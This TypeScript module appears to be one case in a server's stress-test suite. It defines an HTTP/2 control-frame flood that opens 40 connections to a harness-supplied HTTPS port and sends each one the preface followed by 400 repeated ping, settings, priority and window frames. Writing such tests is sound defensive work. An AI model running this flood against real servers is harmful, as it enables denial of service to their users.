/** HTTP/2: frames that ask for nothing, as fast as they are taken, on many connections. */
import { CONTROL, PREFACE } from '../../support/http2-frames.ts';
import { haunt, pour, repeated } from './guest.ts';
import { type StrangerAttack, stranger } from './stranger.ts';

export const attack: StrangerAttack = {
  title: 'Pings, settings, priorities and windows of HTTP/2',
  innocents: 'tls',
  strike: ({ httpsPort }) => {
    const frames = repeated(CONTROL, 400);
    for (let index = 0; index < 40; index += 1)
      haunt(httpsPort, index, (socket) => {
        socket.write(PREFACE);
        pour(socket, frames);
      });
  },
};

if (import.meta.main) stranger(attack, import.meta.filename);
